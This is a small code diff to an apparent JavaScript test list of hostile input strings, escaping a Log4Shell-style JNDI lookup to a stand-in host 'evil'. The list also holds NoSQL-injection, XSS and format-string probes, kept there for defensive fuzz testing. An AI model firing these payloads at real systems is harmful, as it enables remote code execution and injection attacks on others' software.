@@ -53,7 +53,7 @@ const HOSTILE_STRINGS = [
   '𠀀'.repeat(2000),
   'x'.repeat(60_000),
   '{"$gt": ""}',
-  '${jndi:ldap://evil/x}',
+  `\${jndi:ldap://evil/x}`,
   '<script>alert(1)</script>',
   '%s%n%x',
   'NaN',
